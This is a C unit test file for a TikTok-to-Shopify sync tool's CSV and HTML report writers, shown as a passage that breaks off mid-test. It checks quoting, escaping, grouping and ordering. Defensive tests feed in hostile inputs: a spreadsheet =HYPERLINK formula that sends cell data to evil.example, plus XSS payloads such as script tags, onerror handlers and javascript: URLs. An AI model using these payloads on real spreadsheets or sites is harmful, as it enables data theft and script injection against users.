/*
 * check_report.c - report.c, report_csv.c, report_html.c: the CSV columns
 * and header, RFC 4180 quoting (read back with libcsv), formula injection
 * neutralised, HTML that buyer text cannot inject into, failures grouped by
 * reason with the remedy once, alerts first, and the run folder written
 * atomically with reports/latest re-pointed, also when one writer fails;
 * the item spool (many rows, lookups, iterators, a full spool).
 */
#include <check.h>
#include <csv.h>
#include <sqlite3.h>
#include <dirent.h>
#include <errno.h>
#include <ftw.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "reasons.h"
#include "report.h"

/* 2026-11-21T23:53:01Z */
#define T0 ((int64_t)1795305181)

static const char *const want_columns[] = {
	"run_id", "object", "direction", "tiktok_order_id", "shopify_order",
	"action", "status", "reason_code", "reason", "remedy", "detail",
	"needs_person", "tiktok_url", "shopify_url", "time", "buyer",
	"buyer_message",
};
enum {
	C_RUN, C_OBJECT, C_DIRECTION, C_TT, C_SH, C_ACTION, C_STATUS, C_CODE,
	C_REASON, C_REMEDY, C_DETAIL, C_PERSON, C_TTURL, C_SHURL, C_TIME,
	C_BUYER, C_MESSAGE, NCOL
};

/* ---- helpers ------------------------------------------------------------ */

static struct report_item item(const char *tt_id, enum sync_status st,
			       const char *code)
{
	struct report_item it;

	memset(&it, 0, sizeof(it));
	it.object = "order";
	it.direction = "tiktok_to_shopify";
	it.tt_order_id = (char *)tt_id;
	it.action = st == SYNC_SYNCED ? "create_order" : "none";
	it.status = st;
	it.reason_code = (char *)code;
	it.time = T0;
	it.tiktok_url = "https://seller-us.tiktok.com/order/detail?order_no=1";
	return it;
}

/* Whole output of a writer, as a string. */
static char *render(int (*fn)(FILE *, const struct report *, struct err *),
		    const struct report *r)
{
	struct err e = { 0 };
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	ck_assert_ptr_nonnull(f);
	ck_assert_msg(fn(f, r, &e) == 0, "writer failed: %s", e.msg);
	ck_assert_int_eq(fclose(f), 0);
	return buf;
}

static int csv_failed_only(FILE *f, const struct report *r, struct err *e)
{
	return report_write_csv(f, r, 1, e);
}

static int csv_all(FILE *f, const struct report *r, struct err *e)
{
	return report_write_csv(f, r, 0, e);
}

static int csv_synced(FILE *f, const struct report *r, struct err *e)
{
	return report_write_csv_status(f, r, SYNC_SYNCED, e);
}

/* CSV read back with libcsv (strict). */
struct table {
	char **cells;		/* row-major, rows of ncol (checked) */
	size_t ncells, cap;
	size_t nrows;
	size_t row_len;		/* cells in the row being read */
	int ragged;
};

static void on_field(void *s, size_t n, void *data)
{
	struct table *t = data;

	if (t->ncells == t->cap) {
		t->cap = t->cap ? 2 * t->cap : 64;
		t->cells = realloc(t->cells, t->cap * sizeof(*t->cells));
		ck_assert_ptr_nonnull(t->cells);
	}
	t->cells[t->ncells++] = strndup(s ? s : "", n);
	t->row_len++;
}

static void on_row(int c, void *data)
{
	struct table *t = data;

	if (t->row_len != NCOL)
		t->ragged = 1;
	t->row_len = 0;
	t->nrows++;
}

static void parse_csv(const char *text, struct table *t)
{
	struct csv_parser p;
	size_t len = strlen(text);

	memset(t, 0, sizeof(*t));
	ck_assert_int_eq(csv_init(&p, CSV_STRICT | CSV_STRICT_FINI), 0);
	ck_assert_msg(csv_parse(&p, text, len, on_field, on_row, t) == len,
		      "CSV does not parse: %s", csv_strerror(csv_error(&p)));
	ck_assert_int_eq(csv_fini(&p, on_field, on_row, t), 0);
	csv_free(&p);
	ck_assert_msg(!t->ragged, "a row does not have %d cells", NCOL);
}

static const char *cellat(const struct table *t, size_t row, int col)
{
	ck_assert_uint_lt(row, t->nrows);
	return t->cells[row * NCOL + (size_t)col];
}

static void table_free(struct table *t)
{
	size_t i;

	for (i = 0; i < t->ncells; i++)
		free(t->cells[i]);
	free(t->cells);
}

static size_t count(const char *hay, const char *needle)
{
	size_t n = 0, len = strlen(needle);
	const char *p = hay;

	while ((p = strstr(p, needle)) != NULL) {
		n++;
		p += len;
	}
	return n;
}

/* a and b both found, a earlier on the page than b. */
static void assert_before(const char *a, const char *b, const char *what)
{
	ck_assert_msg(a != NULL && b != NULL && a < b, "%s", what);
}

/* What the page shows for s: & < > " ' as entities. */
static char *html_text(const char *s)
{
	struct strbuf sb = STRBUF_INIT;

	for (; *s; s++) {
		switch (*s) {
		case '&': sb_add(&sb, "&amp;"); break;
		case '<': sb_add(&sb, "&lt;"); break;
		case '>': sb_add(&sb, "&gt;"); break;
		case '"': sb_add(&sb, "&quot;"); break;
		case '\'': sb_add(&sb, "&#39;"); break;
		default: sb_addn(&sb, s, 1); break;
		}
	}
	return sb_detach(&sb);
}

/* hay[from, to) of the HTML page: between two markers. */
static char *section(const char *page, const char *from, const char *to)
{
	const char *a = strstr(page, from), *b;

	ck_assert_msg(a != NULL, "page has no %s", from);
	b = to ? strstr(a, to) : NULL;
	if (b == NULL)
		b = a + strlen(a);
	return strndup(a, (size_t)(b - a));
}

/* Temporary folder for one test. */
static char *tmpdir(void)
{
	const char *base = getenv("TTSYNC_TEST_LOGDIR");
	char *t;

	if (base == NULL || *base == '\0')
		base = getenv("TMPDIR");
	if (base == NULL || *base == '\0')
		base = "/tmp";
	t = xasprintf("%s/check_report.XXXXXX", base);
	ck_assert_ptr_nonnull(mkdtemp(t));
	return t;
}

static int rm_one(const char *path, const struct stat *sb, int flag,
		  struct FTW *ftw)
{
	chmod(path, 0700);
	return remove(path);
}

static void rm_rf(const char *path)
{
	nftw(path, rm_one, 16, FTW_DEPTH | FTW_PHYS);
}

static int is_file(const char *path)
{
	struct stat st;

	return stat(path, &st) == 0 && S_ISREG(st.st_mode) && st.st_size > 0;
}

static int has_temp(const char *path, const struct stat *sb, int flag,
		    struct FTW *ftw)
{
	return strstr(path + ftw->base, ".tmp") != NULL;
}

static char *slurp(const char *path)
{
	FILE *f = fopen(path, "r");
	char *buf = NULL;
	size_t cap = 0, len = 0, n;

	ck_assert_msg(f != NULL, "cannot open %s", path);
	for (;;) {
		if (cap - len < 4096) {
			cap = cap ? 2 * cap : 8192;
			buf = realloc(buf, cap);
		}
		n = fread(buf + len, 1, cap - len - 1, f);
		len += n;
		if (n == 0)
			break;
	}
	fclose(f);
	buf[len] = '\0';
	return buf;
}

/* ---- CSV ------------------------------------------------------------------ */

START_TEST(test_csv_columns_and_header)
{
	struct report r;
	struct report_item it = item("576461413038870001", SYNC_SYNCED, NULL);
	struct table t;
	char *out;
	size_t i;

	report_init(&r, "20261121T235301Z-1", "Acme", "run", 0);
	it.shopify_order = "#1001";
	it.shopify_url = "https://acme.myshopify.com/admin/orders/1";
	it.needs_person = 1;
	report_add(&r, &it);
	out = render(csv_all, &r);

	/* The header row, exactly, quoted and CRLF-terminated. */
	{
		static const char header[] =
			"\"run_id\",\"object\",\"direction\",\"tiktok_order_id\","
			"\"shopify_order\",\"action\",\"status\",\"reason_code\","
			"\"reason\",\"remedy\",\"detail\",\"needs_person\","
			"\"tiktok_url\",\"shopify_url\",\"time\",\"buyer\","
			"\"buyer_message\"\r\n";

		ck_assert_msg(strncmp(out, header, strlen(header)) == 0,
			      "header row: %.200s", out);
	}
	parse_csv(out, &t);
	ck_assert_uint_eq(t.nrows, 2);
	for (i = 0; i < NCOL; i++)
		ck_assert_str_eq(cellat(&t, 0, (int)i), want_columns[i]);
	ck_assert_str_eq(cellat(&t, 1, C_RUN), "20261121T235301Z-1");
	ck_assert_str_eq(cellat(&t, 1, C_OBJECT), "order");
	ck_assert_str_eq(cellat(&t, 1, C_DIRECTION), "tiktok_to_shopify");
	ck_assert_str_eq(cellat(&t, 1, C_TT), "576461413038870001");
	ck_assert_str_eq(cellat(&t, 1, C_SH), "#1001");
	ck_assert_str_eq(cellat(&t, 1, C_ACTION), "create_order");
	ck_assert_str_eq(cellat(&t, 1, C_STATUS), "synced");
	ck_assert_str_eq(cellat(&t, 1, C_CODE), "");
	ck_assert_str_eq(cellat(&t, 1, C_PERSON), "1");
	ck_assert_str_eq(cellat(&t, 1, C_SHURL),
			 "https://acme.myshopify.com/admin/orders/1");
	ck_assert_str_eq(cellat(&t, 1, C_TIME), "2026-11-21T23:53:01Z");
	table_free(&t);
	free(out);
	report_free(&r);
}
END_TEST

START_TEST(test_csv_status_names_and_person)
{
	static const enum sync_status all[] = {
		SYNC_NOT_SYNCED, SYNC_SYNCED, SYNC_FAILED, SYNC_SKIPPED,
	};
	struct report r;
	struct table t;
	char *out;
	size_t i;

	report_init(&r, "r1", "Acme", "run", 0);
	for (i = 0; i < ARRAY_SIZE(all); i++) {
		struct report_item it = item("1", all[i], "X");

		it.time = 0;	/* unknown time: empty cell */
		report_add(&r, &it);
	}
	out = render(csv_all, &r);
	parse_csv(out, &t);
	ck_assert_uint_eq(t.nrows, 1 + ARRAY_SIZE(all));
	for (i = 0; i < ARRAY_SIZE(all); i++) {
		ck_assert_str_eq(cellat(&t, 1 + i, C_STATUS),
				 sync_status_name(all[i]));
		ck_assert_str_eq(cellat(&t, 1 + i, C_PERSON), "0");
		ck_assert_str_eq(cellat(&t, 1 + i, C_TIME), "");
	}
	ck_assert_str_eq(cellat(&t, 1, C_STATUS), "not_synced");
	ck_assert_str_eq(cellat(&t, 3, C_STATUS), "failed");
	table_free(&t);
	free(out);
	report_free(&r);
}
END_TEST

START_TEST(test_csv_rfc4180_round_trip)
{
	const char *nasty_reason = "SKU \"RED, L\" is not linked";
	const char *nasty_detail = "buyer wrote: line one\nline two\r\nline \"three\",,";
	const char *nasty_id = "576,461\"x\"";
	struct report r;
	struct report_item it = item(nasty_id, SYNC_FAILED, "SKU_NOT_LINKED");
	struct table t;
	char *out;

	report_init(&r, "r1", "Acme, \"Inc\"", "run", 0);
	it.reason = (char *)nasty_reason;
	it.detail = (char *)nasty_detail;
	it.remedy = "Link it:\nttsync link --tiktok-sku \"RED, L\"";
	report_add(&r, &it);
	out = render(csv_all, &r);
	/* Quotes doubled inside a quoted field, per RFC 4180. */
	ck_assert_ptr_nonnull(strstr(out, "\"SKU \"\"RED, L\"\" is not linked\""));
	parse_csv(out, &t);
	ck_assert_uint_eq(t.nrows, 2);
	ck_assert_str_eq(cellat(&t, 1, C_TT), nasty_id);
	ck_assert_str_eq(cellat(&t, 1, C_REASON), nasty_reason);
	ck_assert_str_eq(cellat(&t, 1, C_DETAIL), nasty_detail);
	ck_assert_str_eq(cellat(&t, 1, C_REMEDY),
			 "Link it:\nttsync link --tiktok-sku \"RED, L\"");
	ck_assert_str_eq(cellat(&t, 1, C_TIME), "2026-11-21T23:53:01Z");
	table_free(&t);
	free(out);
	report_free(&r);
}
END_TEST

START_TEST(test_csv_formula_injection)
{
	static const char *const evil[] = {
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"+1",
		"-2",
		"@SUM(A1:A9)",
		"\t=1+1",
		"\r=1+1",
	};
	struct report r;
	struct table t;
	char *out;
	size_t i;

	report_init(&r, "r1", "Acme", "run", 0);
	for (i = 0; i < ARRAY_SIZE(evil); i++) {
		struct report_item it = item(evil[i], SYNC_FAILED, "ORDER_DATA_INVALID");

		it.reason = (char *)evil[i];
		it.detail = (char *)evil[i];
		it.shopify_order = (char *)evil[i];
		it.buyer = (char *)evil[i];
		it.buyer_message = (char *)evil[i];
		report_add(&r, &it);
	}
	out = render(csv_failed_only, &r);
	parse_csv(out, &t);
	ck_assert_uint_eq(t.nrows, 1 + ARRAY_SIZE(evil));
	for (i = 0; i < ARRAY_SIZE(evil); i++) {
		static const int cols[] = { C_TT, C_SH, C_REASON, C_DETAIL,
					    C_BUYER, C_MESSAGE };
		size_t c;

		for (c = 0; c < ARRAY_SIZE(cols); c++) {
			const char *v = cellat(&t, 1 + i, cols[c]);

			ck_assert_msg(v[0] == '\'' && strcmp(v + 1, evil[i]) == 0,
				      "cell %d of row %zu not neutralised: [%s]",
				      cols[c], i + 1, v);
		}
	}
	table_free(&t);
	free(out);
	report_free(&r);

	/* The helper itself: only the dangerous first characters. */
	{
		char *a = csv_safe_cell("plain = text");
		char *b = csv_safe_cell("");
		char *c = csv_safe_cell(NULL);
		char *d = csv_safe_cell("-12.50");
		char *f = csv_safe_cell("'=already");

		ck_assert_str_eq(a, "plain = text");
		ck_assert_str_eq(b, "");
		ck_assert_str_eq(c, "");
		ck_assert_str_eq(d, "'-12.50");	/* documented: negative amounts too */
		ck_assert_str_eq(f, "'=already");
		free(a);
		free(b);
		free(c);
		free(d);
		free(f);
	}
}
END_TEST

START_TEST(test_csv_files_by_status)
{
	struct report r;
	struct report_item ok = item("100", SYNC_SYNCED, NULL);
	struct report_item bad = item("200", SYNC_FAILED, "SKU_NOT_LINKED");
	struct report_item old = item("300", SYNC_FAILED, "CARRIER_NOT_INTEGRATED");
	struct report_item wait = item("400", SYNC_NOT_SYNCED, "AUTO_SYNC_OFF");
	struct report_item fbt = item("500", SYNC_SKIPPED, "SKIP_FBT");
	struct table t;
	char *out;

	report_init(&r, "r1", "Acme", "run", 0);
	old.carried = 1;
	old.time = T0 - 86400;
	old.detail = "carrier Other";
	report_add(&r, &ok);
	report_add(&r, &bad);
	report_add(&r, &old);
	old.tt_order_id = "310";
	old.detail = "push:gid://shopify/Fulfillment/9; open since an earlier run";
	report_add(&r, &old);
	report_add(&r, &wait);
	report_add(&r, &fbt);

	out = render(csv_synced, &r);
	parse_csv(out, &t);
	ck_assert_uint_eq(t.nrows, 2);
	ck_assert_str_eq(cellat(&t, 1, C_TT), "100");
	table_free(&t);
	free(out);

	out = render(csv_failed_only, &r);
	parse_csv(out, &t);
	ck_assert_uint_eq(t.nrows, 4);
	ck_assert_str_eq(cellat(&t, 1, C_TT), "200");
	ck_assert_str_eq(cellat(&t, 1, C_DETAIL), "");
	ck_assert_str_eq(cellat(&t, 2, C_TT), "300");
	ck_assert_str_eq(cellat(&t, 2, C_STATUS), "failed");
	ck_assert_str_eq(cellat(&t, 2, C_DETAIL),
			 "open since an earlier run; carrier Other");
	ck_assert_str_eq(cellat(&t, 2, C_TIME), "2026-11-20T23:53:01Z");
	/* Already said by the caller: not said twice. */
	ck_assert_str_eq(cellat(&t, 3, C_DETAIL),
			 "push:gid://shopify/Fulfillment/9; open since an earlier run");
	table_free(&t);
	free(out);

	out = render(csv_all, &r);
	parse_csv(out, &t);
	ck_assert_uint_eq(t.nrows, 7);
	ck_assert_str_eq(cellat(&t, 5, C_STATUS), "not_synced");
	ck_assert_str_eq(cellat(&t, 6, C_STATUS), "skipped");
	table_free(&t);
	free(out);
	report_free(&r);
}
END_TEST

START_TEST(test_writers_report_write_errors)
{
	struct report r;
	struct report_item it = item("1", SYNC_FAILED, "SKU_NOT_LINKED");
	struct err e = { 0 };
	char big[8192];
	FILE *f;
	int i;

	/* /dev/full accepts the open and refuses every byte. */
	report_init(&r, "r1", "Acme", "run", 0);
	memset(big, 'x', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	it.detail = big;
	for (i = 0; i < 4; i++)
		report_add(&r, &it);
	f = fopen("/dev/full", "w");
	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(report_write_csv(f, &r, 0, &e), -1);
	ck_assert_int_eq(e.cls, ERR_IO);
	fclose(f);
	err_clear(&e);
	f = fopen("/dev/full", "w");
	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(report_write_html(f, &r, &e), -1);
	ck_assert_int_eq(e.cls, ERR_IO);
	ck_assert_ptr_nonnull(strstr(e.msg, "HTML"));
	fclose(f);
	report_free(&r);
}
END_TEST

/* ---- HTML ----------------------------------------------------------------- */

/* Every href="..." value on the page, checked to be http(s). */
static void assert_hrefs_safe(const char *page)
{
	const char *p = page;
	size_t n = 0;

	/* Page text has its quotes escaped, so every href=" is markup. */
	while ((p = strstr(p, "href=\"")) != NULL) {
		p += 6;
		if (*p == '#') {		/* in-page anchor */
			continue;
		}
		ck_assert_msg(strncmp(p, "http://", 7) == 0 ||
			      strncmp(p, "https://", 8) == 0,
			      "href is not http(s): %.60s", p);
		n++;
	}
	ck_assert_uint_gt(n, 0);	/* the test had good links too */
}

START_TEST(test_html_no_injection)
{
	struct report r;
	struct report_item a = item("<script>alert(1)</script>", SYNC_FAILED,
				    "ORDER_DATA_INVALID");
	struct report_item b = item("577", SYNC_FAILED, "<b>CODE</b>");
	struct report_item c = item("578", SYNC_SYNCED, NULL);
	char *page, *lower, *q;

	report_init(&r, "r<1>", "<b>Acme</b> & 'Sons'", "run", 1);
	r.aborted = 1;
	r.abort_reason = xstrdup("<script>alert('abort')</script>");
	r.exit_code = 3;
	a.detail = "<img src=x onerror=alert(1)>";
	a.reason = "\" onerror=\"alert(1)";
	a.remedy = "<a href=\"javascript:alert(1)\">fix</a>";
	a.tiktok_url = "javascript:alert(1)";
	a.shopify_order = "#1001";
	a.buyer = "<svg onload=alert(7)>";
	a.buyer_message = "</td><script>alert(8)</script>";
	a.shopify_url = "JaVaScRiPt:alert(2)";
	b.tiktok_url = "https://x.example/\" onmouseover=\"alert(3)";
	b.shopify_order = "'><svg onload=alert(4)>";
	b.shopify_url = "data:text/html,<script>alert(5)</script>";
	c.tiktok_url = " javascript:alert(6)";
	c.shopify_url = "https://acme.myshopify.com/admin/orders/7";
	c.shopify_order = "#1002";
	report_add(&r, &a);
	report_add(&r, &b);
	report_add(&r, &c);
	page = render(report_write_html, &r);

	lower = xstrdup(page);
	for (q = lower; *q; q++)
		if (*q >= 'A' && *q <= 'Z')
			*q = (char)(*q - 'A' + 'a');
	ck_assert_msg(strstr(lower, "<script") == NULL, "raw <script> in page");
	ck_assert_msg(strstr(lower, "<img") == NULL, "raw <img> in page");
	ck_assert_msg(strstr(lower, "<svg") == NULL, "raw <svg> in page");
	ck_assert_msg(strstr(lower, "<b>") == NULL, "raw <b> in page");
	ck_assert_msg(strstr(lower, "\" onerror=\"") == NULL, "attribute breakout");
	ck_assert_msg(strstr(lower, "\" onmouseover=\"") == NULL, "attribute breakout");
	ck_assert_msg(strstr(lower, "href=\"javascript:") == NULL, "javascript: href");
	ck_assert_msg(strstr(lower, "href=\" javascript:") == NULL, "javascript: href");
	ck_assert_msg(strstr(lower, "href=\"data:") == NULL, "data: href");
	assert_hrefs_safe(page);
	/* Self-contained: no external resources of any kind. */
	ck_assert(strstr(lower, "<link") == NULL);
	ck_assert(strstr(lower, "@import") == NULL);
	ck_assert(strstr(lower, "url(") == NULL);
	ck_assert(strstr(lower, "<iframe") == NULL);
	/* The text is still there, escaped, for the merchant to read. */
	ck_assert_ptr_nonnull(strstr(page, "&lt;script&gt;alert(1)&lt;/script&gt;"));
	ck_assert_ptr_nonnull(strstr(page, "&lt;img src=x onerror=alert(1)&gt;"));
	ck_assert_ptr_nonnull(strstr(page, "&lt;b&gt;Acme&lt;/b&gt; &amp; &#39;Sons&#39;"));
	ck_assert_ptr_nonnull(strstr(page, "&quot; onerror=&quot;alert(1)"));
	ck_assert_ptr_nonnull(strstr(page, "&lt;/td&gt;&lt;script&gt;alert(8)"));
	/* Good links are links. */
	ck_assert_ptr_nonnull(strstr(page,
		"<a href=\"https://acme.myshopify.com/admin/orders/7\""));
	/* The banners. */
	ck_assert_ptr_nonnull(strstr(page, "Dry run"));
	ck_assert_ptr_nonnull(strstr(page, "Run aborted: &lt;script&gt;"));
	ck_assert_ptr_nonnull(strstr(page, "Exit code 3: run aborted"));
	free(lower);
	free(page);
	report_free(&r);
}
END_TEST

START_TEST(test_html_groups_by_reason_remedy_once)
{
	const struct reason *sku = reason_lookup("SKU_NOT_LINKED");
	const struct reason *car = reason_lookup("CARRIER_NOT_INTEGRATED");
	const char *rem = "Link the TikTok SKU to a Shopify variant with ttsync link.";
	struct report r;
	char *page, *fail;
	const char *p1, *p2;
	int i;

	ck_assert_ptr_nonnull(sku);
	ck_assert_ptr_nonnull(car);
	report_init(&r, "r1", "Acme", "run", 0);
	r.exit_code = 1;
	{
		struct report_item c = item("9001", SYNC_FAILED,
					    "CARRIER_NOT_INTEGRATED");

		c.object = "fulfillment";
		c.direction = "shopify_to_tiktok";
		c.remedy = "Use a supported carrier or add a mapping rule.";
		c.reason = "Carrier 'Other' is not integrated with TikTok Shop";
		report_add(&r, &c);
	}
	for (i = 0; i < 3; i++) {
		char id[16];
		struct report_item s;

		ck_assert_int_eq(xsnprintf(id, sizeof(id), "800%d", i), 0);
		s = item(id, SYNC_FAILED, "SKU_NOT_LINKED");
		s.remedy = (char *)rem;
		s.reason = "SKU RED-L is not linked to a Shopify variant";
		s.needs_person = 0;
		report_add(&r, &s);
	}
	{
		struct report_item ok = item("7000", SYNC_SYNCED, NULL);

		report_add(&r, &ok);
	}
	page = render(report_write_html, &r);
	fail = section(page, "id=\"failures\"", "id=\"items\"");

	/* One group per code, each summary once, the remedy once. */
	ck_assert_uint_eq(count(fail, "<section class=\"group\">"), 2);
	ck_assert_uint_eq(count(fail, ">SKU_NOT_LINKED<"), 1);
	ck_assert_uint_eq(count(fail, ">CARRIER_NOT_INTEGRATED<"), 1);
	ck_assert_uint_eq(count(fail, rem), 1);
	ck_assert_uint_eq(count(fail, "Use a supported carrier or add a mapping rule."), 1);
	ck_assert_uint_eq(count(fail, "3 items"), 1);
	ck_assert_uint_eq(count(fail, "1 item<"), 1);
	/* Each item listed in its group, with its sentence. */
	ck_assert_uint_eq(count(fail, "SKU RED-L is not linked"), 3);
	ck_assert_ptr_nonnull(strstr(fail, ">8000<"));
	ck_assert_ptr_nonnull(strstr(fail, ">8002<"));
	ck_assert_ptr_null(strstr(fail, ">7000<"));	/* synced: not a failure */
	/* The bigger group first; the reasons table's summary heads it. */
	p1 = strstr(fail, ">SKU_NOT_LINKED<");
	p2 = strstr(fail, ">CARRIER_NOT_INTEGRATED<");
	assert_before(p1, p2, "bigger group first");
	{
		char *head = section(fail, "<section class=\"group\">", "</h3>");
		char *want = html_text(sku->summary);

		ck_assert_msg(strstr(head, want) != NULL,
			      "group heading lacks '%s': %s", want, head);
		free(want);
		free(head);
	}
	/* The items table still lists everything. */
	ck_assert_ptr_nonnull(strstr(page, "Every item (5)"));
	free(fail);
	free(page);
	report_free(&r);
}
END_TEST

START_TEST(test_html_differing_remedies_each_shown)
{
	struct report r;
	struct report_item a = item("1", SYNC_FAILED, "SKU_NOT_LINKED");
	struct report_item b = item("2", SYNC_FAILED, "SKU_NOT_LINKED");
	char *page, *fail;

	report_init(&r, "r1", "Acme", "run", 0);
	a.remedy = "Link SKU RED-L: ttsync link --tiktok-sku RED-L --variant ...";
	b.remedy = "Link SKU BLUE-M: ttsync link --tiktok-sku BLUE-M --variant ...";
	report_add(&r, &a);
	report_add(&r, &b);
	page = render(report_write_html, &r);
	fail = section(page, "id=\"failures\"", "id=\"items\"");
	ck_assert_uint_eq(count(fail, "<section class=\"group\">"), 1);
	ck_assert_uint_eq(count(fail, "Link SKU RED-L"), 1);
	ck_assert_uint_eq(count(fail, "Link SKU BLUE-M"), 1);
	/* The group still says what to do, once, and no "%s" leaks. */
	ck_assert_uint_eq(count(fail, "class=\"remedy\""), 1);
	ck_assert_ptr_null(strstr(fail, "%s"));
	free(fail);
	free(page);
	report_free(&r);
}
END_TEST

START_TEST(test_html_alerts_first)
{
	struct report r;
	struct report_item plain = item("111", SYNC_FAILED, "SKU_NOT_LINKED");
	struct report_item red = item("222", SYNC_FAILED,
				      "CANCELLED_AFTER_FULFILLMENT");
	char *page, *fail;
	const char *pa, *pf, *pi;

	report_init(&r, "r1", "Acme", "run", 0);
	red.alert = 1;
	red.needs_person = 1;
	red.reason = "TikTok cancelled order 222 after it was fulfilled in Shopify";
	red.remedy = "Stop the parcel or ask the buyer to return it.";
	red.shopify_order = "#1005";
	/* The alert comes after the ordinary failure in the item list. */
	report_add(&r, &plain);
	report_add(&r, &red);
	page = render(report_write_html, &r);
	pa = strstr(page, "id=\"alerts\"");
	pf = strstr(page, "id=\"failures\"");
	pi = strstr(page, "id=\"items\"");
	ck_assert_ptr_nonnull(pa);
	ck_assert_ptr_nonnull(pf);
	ck_assert_ptr_nonnull(pi);
	assert_before(pa, pf, "alerts before failures");
	assert_before(pf, pi, "failures before the items table");
	/* The alert's sentence is in the alerts, before any other failure. */
	assert_before(strstr(page, "TikTok cancelled order 222"), pf,
		      "alert sentence before the failures");
	assert_before(strstr(page, "class=\"alert\""), pf, "alert box first");
	assert_before(pf, strstr(page, ">111<"), "plain failure after alerts");
	/* and not repeated among the grouped failures */
	fail = section(page, "id=\"failures\"", "id=\"items\"");
	ck_assert_ptr_null(strstr(fail, "TikTok cancelled order 222"));
	ck_assert_ptr_nonnull(strstr(fail, ">111<"));
	free(fail);
	free(page);
	report_free(&r);
}
END_TEST

START_TEST(test_html_summary_counts_and_carried)
{
	struct report r;
	struct report_item a = item("1", SYNC_SYNCED, NULL);
	struct report_item b = item("2", SYNC_FAILED, "TRACKING_FORMAT_INVALID");
	struct report_item c = item("3", SYNC_NOT_SYNCED, "AUTO_SYNC_OFF");
	char *page, *sum;

	report_init(&r, "r1", "Acme", "run", 0);
	r.stats.orders_created = 42;
	r.stats.tt_orders_fetched = 4321;
	r.stats.started_at = T0;
	r.stats.finished_at = T0 + 65;
	b.object = "fulfillment";
	b.carried = 1;
	b.time = T0 - 3600;
	report_add(&r, &a);
	report_add(&r, &b);
	report_add(&r, &c);
	page = render(report_write_html, &r);
	sum = section(page, "id=\"summary\"", "id=\"failures\"");
	ck_assert_ptr_nonnull(strstr(page, "<title>ttsync report &ndash; Acme &ndash; run r1</title>"));
	ck_assert_ptr_nonnull(strstr(sum, "Exit code 0: all done, nothing failed"));
	/* order row: 1 not synced, 1 synced, 0 failed, 0 skipped, 2 total */
	ck_assert_ptr_nonnull(strstr(sum,
		"<tr><th>order</th><td class=\"n\">1</td><td class=\"n\">1</td>"
		"<td class=\"n\">0</td><td class=\"n\">0</td><td class=\"n\">2</td></tr>"));
	ck_assert_ptr_nonnull(strstr(sum,
		"<tr><th>fulfillment</th><td class=\"n\">0</td><td class=\"n\">0</td>"
		"<td class=\"n\">1</td><td class=\"n\">0</td><td class=\"n\">1</td></tr>"));
	ck_assert_ptr_nonnull(strstr(sum, "Failures still open from earlier runs: 1."));
	ck_assert_ptr_nonnull(strstr(sum, "<td class=\"n\">4321</td>"));
	ck_assert_ptr_nonnull(strstr(sum, "<td class=\"n\">42</td>"));
	ck_assert_ptr_nonnull(strstr(sum, "Duration (seconds)</th><td class=\"n\">65<"));
	ck_assert_ptr_null(strstr(page, "Dry run"));
	ck_assert_ptr_null(strstr(page, "Run aborted"));
	ck_assert_ptr_nonnull(strstr(page, "open since an earlier run"));
	ck_assert_ptr_nonnull(strstr(page, "(earlier run)"));
	free(sum);
	free(page);
	report_free(&r);
}
END_TEST

/* ---- the spool ------------------------------------------------------------ */

/* CRLF-terminated records of a CSV without line breaks inside cells (one
 * pass: strstr in a loop is quadratic under AddressSanitizer). */
static size_t csv_lines(const char *s)
{
	size_t n = 0;

	for (; *s; s++)
		if (s[0] == '\r' && s[1] == '\n')
			n++;
	return n;
}

START_TEST(test_many_rows_spooled)
{
	struct report r;
	char id[32], *out, *page;
	const char *last;
	int i;

	report_init(&r, "r1", "Acme", "run", 0);
	for (i = 0; i < 20000; i++) {
		struct report_item it = item(id, i % 10 ? SYNC_SYNCED : SYNC_FAILED,
					     i % 10 ? NULL : "SKU_NOT_LINKED");

		ck_assert_int_eq(xsnprintf(id, sizeof(id), "57700%05d", i), 0);
		it.detail = i == 12345 ? "push:gid://shopify/Fulfillment/12345" : NULL;
		report_add(&r, &it);
	}
	ck_assert_uint_eq(r.nitems, 20000);
	out = render(csv_all, &r);
	ck_assert_uint_eq(csv_lines(out), 20001);
	/* rows in the order they were added */
	last = strstr(out, "\"5770019999\"");
	ck_assert_ptr_nonnull(last);
	ck_assert_ptr_null(strstr(last + 1, "\"57700"));
	assert_before(strstr(out, "\"5770000000\""), strstr(out, "\"5770000001\""),
		      "first row first");
	free(out);
	out = render(csv_failed_only, &r);
	ck_assert_uint_eq(csv_lines(out), 2001);
	free(out);
	page = render(report_write_html, &r);
	ck_assert_ptr_nonnull(strstr(page, "Every item (20000)"));
	ck_assert_ptr_nonnull(strstr(page, " &middot; 2000 items</h3>"));
	free(page);

	ck_assert_int_eq(report_has(&r, "order", "5770012345", NULL), 1);
	ck_assert_int_eq(report_has(&r, "order", "5770012345", "Fulfillment/12345"), 1);
	ck_assert_int_eq(report_has(&r, "order", "5770012345", "Fulfillment/9"), 0);
	ck_assert_int_eq(report_has(&r, "order", "5770020000", NULL), 0);
	ck_assert_int_eq(report_has(&r, "fulfillment", "5770012345", NULL), 0);
	report_free(&r);
}
END_TEST

START_TEST(test_has_key_and_iterators)
{
	struct report r;
	struct report_item a = item("1", SYNC_FAILED, "CARRIER_NOT_INTEGRATED");
	struct report_item b = item("1", SYNC_SYNCED, NULL);
	struct report_item c = item("2", SYNC_FAILED, "SKU_NOT_LINKED");
	struct report_iter outer, inner;
	const struct report_item *it, *jt;
	char **codes;
	size_t *counts, n, seen = 0;

	report_init(&r, "r1", "Acme", "run", 0);
	a.object = "fulfillment";
	a.detail = "push:gid://shopify/Fulfillment/9; tracking 1Z999";
	b.object = "fulfillment";
	b.detail = "pull:77";
	c.alert = 1;
	report_add(&r, &a);
	report_add(&r, &b);
	report_add(&r, &c);

	/* the key, then the end or ';' */
	ck_assert_int_eq(report_has_key(&r, "fulfillment", "1",
		"push:gid://shopify/Fulfillment/9", SYNC_FAILED,
		"CARRIER_NOT_INTEGRATED"), 1);
	ck_assert_int_eq(report_has_key(&r, "fulfillment", "1",
		"push:gid://shopify/Fulfillment/", SYNC_FAILED,
		"CARRIER_NOT_INTEGRATED"), 0);
	ck_assert_int_eq(report_has_key(&r, "fulfillment", "1",
		"push:gid://shopify/Fulfillment/9", SYNC_SYNCED,
